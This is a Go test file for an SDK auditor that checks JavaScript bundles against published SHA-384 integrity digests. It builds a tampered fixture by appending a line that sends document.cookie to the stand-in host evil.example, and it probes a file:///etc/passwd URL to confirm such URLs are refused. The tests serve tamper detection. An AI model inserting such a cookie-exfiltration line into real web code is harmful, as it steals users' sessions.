package auditsdk

import (
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestDigestsCopyIsCurrent keeps the compiled-in copy equal to the
// published sdk/js/DIGESTS.json (the SDK's build writes both).
func TestDigestsCopyIsCurrent(t *testing.T) {
	pub, err := os.ReadFile("../../sdk/js/DIGESTS.json")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(pub, digestsJSON) {
		t.Fatal("internal/auditsdk/digests.json differs from sdk/js/DIGESTS.json: run `npm --prefix sdk/js run build` and commit both")
	}
}

// TestCommittedDistIsPublished checks that every committed bundle of the
// newest version is listed with its digest.
func TestCommittedDistIsPublished(t *testing.T) {
	for _, f := range []string{"veil.js", "veil-xwing.js"} {
		b, err := os.ReadFile(filepath.Join("../../sdk/js/dist", f))
		if err != nil {
			t.Fatal(err)
		}
		ms, err := Lookup(Integrity(b))
		if err != nil {
			t.Fatal(err)
		}
		if len(ms) == 0 || ms[len(ms)-1].File != f {
			t.Errorf("dist/%s (%s) is not in DIGESTS.json: %v", f, Integrity(b), ms)
		}
	}
}

func TestAudit(t *testing.T) {
	real, err := os.ReadFile("../../sdk/js/dist/veil.js")
	if err != nil {
		t.Fatal(err)
	}
	tampered := append(bytes.Clone(real), []byte("\nfetch('https://evil.example/'+document.cookie);")...)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/veil.js":
			w.Write(real)
		case "/tampered.js":
			w.Write(tampered)
		case "/huge.js":
			w.Write(make([]byte, MaxBytes+1))
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	ctx := context.Background()

	r, err := Audit(ctx, srv.Client(), srv.URL+"/veil.js")
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Matches) != 1 || r.Matches[0].File != "veil.js" || r.Bytes != len(real) {
		t.Fatalf("real build: %+v", r)
	}
	var out strings.Builder
	if err := r.Write(&out); err != nil || !strings.Contains(out.String(), "matches @veil-telemetry/web "+r.Matches[0].Version+", dist/veil.js") {
		t.Errorf("report: %v %q", err, out.String())
	}

	r, err = Audit(ctx, srv.Client(), srv.URL+"/tampered.js")
	if err != nil {
		t.Fatal(err)
	}
	out.Reset()
	if len(r.Matches) != 0 || r.Write(&out) != nil || !strings.Contains(out.String(), "NO MATCH") {
		t.Fatalf("tampered build: %+v %q", r, out.String())
	}

	if _, err := Audit(ctx, srv.Client(), srv.URL+"/missing.js"); err == nil || !strings.Contains(err.Error(), "404") {
		t.Errorf("missing file: %v", err)
	}
	if _, err := Audit(ctx, srv.Client(), srv.URL+"/huge.js"); err != ErrTooLarge {
		t.Errorf("huge file: %v", err)
	}
	if _, err := Audit(ctx, srv.Client(), "file:///etc/passwd"); err == nil {
		t.Error("file: URL accepted")
	}
}

func TestIntegrityForm(t *testing.T) {
	// SHA-384 of the empty string, in SRI form.
	if got, want := Integrity(nil), "sha384-OLBgp1GsljhM2TJ+sbHjaiH9txEUvgdDTAzHv2P24donTt6/529l+9Ua0vFImLlb"; got != want {
		t.Errorf("Integrity(nil) = %s, want %s", got, want)
	}
}

// TestReadmeDigestsArePublished keeps the SRI snippets of sdk/js/README.md
// current.
func TestReadmeDigestsArePublished(t *testing.T) {
	b, err := os.ReadFile("../../sdk/js/README.md")
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, f := range strings.Fields(strings.NewReplacer(`"`, " ", "=", " ").Replace(string(b))) {
		if !strings.HasPrefix(f, "sha384-") {
			continue
		}
		found++
		if ms, err := Lookup(f); err != nil || len(ms) == 0 {
			t.Errorf("README digest %s is not a published build (%v)", f, err)
		}
	}
	if found == 0 {
		t.Error("no sha384- digest in sdk/js/README.md")
	}
}
